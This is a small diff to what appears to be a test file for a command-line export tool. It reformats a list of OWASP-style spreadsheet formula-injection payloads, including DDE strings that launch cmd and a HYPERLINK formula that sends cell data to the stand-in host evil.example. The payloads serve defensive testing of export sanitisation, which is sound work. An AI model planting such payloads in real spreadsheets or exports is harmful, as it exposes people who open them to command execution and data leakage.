@@ -210,7 +210,8 @@ def test_export_refuses_to_write_through_a_link(cli, repo_copy, tmp_path):
 OWASP = [
     "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?leak=\"&A1, \"Cliquez\")", "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
-    "\u00a0=1+1", "=1+1;\"quoted\"", "＝1+1", "＋1", "－1+cmd", "＠SUM(1)", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    "\u00a0=1+1", "=1+1;\"quoted\"", "＝1+1", "＋1", "－1+cmd", "＠SUM(1)",
+    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
 ]
 
 
